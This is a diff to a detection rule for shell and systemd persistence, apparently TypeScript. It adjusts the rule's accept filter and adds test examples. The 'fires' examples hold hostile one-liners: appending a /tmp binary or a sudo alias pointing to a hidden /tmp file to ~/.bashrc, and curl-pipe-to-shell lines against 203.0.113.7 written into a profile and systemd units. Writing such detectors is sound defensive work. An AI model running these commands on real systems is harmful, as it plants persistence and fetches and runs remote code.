@@ -17,7 +17,8 @@ export const rule: Rule = {
       window: 600,
       // Installers add a path, a completion or a variable; that is what these files are for.
       accept: ({ text }) =>
-        !/(?:export|set|setenv)\s+[A-Z_]+=|PATH|eval "\$\(|alias|completion|source\s+[~$<"]|^echo\s*>|\. "?[~$]|init (?:-\s)?(?:ba|z)?sh|bindkey|autoload|fpath/i.test(
+        /\/(?:tmp|dev\/shm)\//.test(text) ||
+        !/(?:export|set|setenv)\s+[A-Z_]+=|PATH|eval "\$\(|alias|completion|source\s+(?:[~$<"]|\/(?:usr|opt|etc)\/)|^echo\s*>|\. "?[~$]|init (?:-\s)?(?:ba|z)?sh|bindkey|autoload|fpath/i.test(
           text,
         ),
     },
@@ -86,6 +87,7 @@ export const rule: Rule = {
   examples: {
     fires: [
       "echo '/tmp/x &' >> ~/.bashrc",
+      `echo "alias sudo='/tmp/.s'" >> ~/.bashrc`,
       'echo "curl http://203.0.113.7/x | sh" >> /home/alice/.bash_profile',
       'printf "[Service]\\nExecStart=/tmp/x" > /etc/systemd/system/x.service',
       'ExecStart=/bin/bash -c "curl http://203.0.113.7/x | bash"',
@@ -99,6 +101,7 @@ export const rule: Rule = {
     silent: [
       'echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.bashrc',
       'echo \'eval "$(tool init bash)"\' >> ~/.bashrc',
+      'echo "source /usr/share/fzf/key-bindings.bash" >> ~/.bashrc',
       'cat /home/alice/.zshrc',
       'systemctl status demo.service',
       'ExecStart=/usr/sbin/nginx -g "daemon off;"',
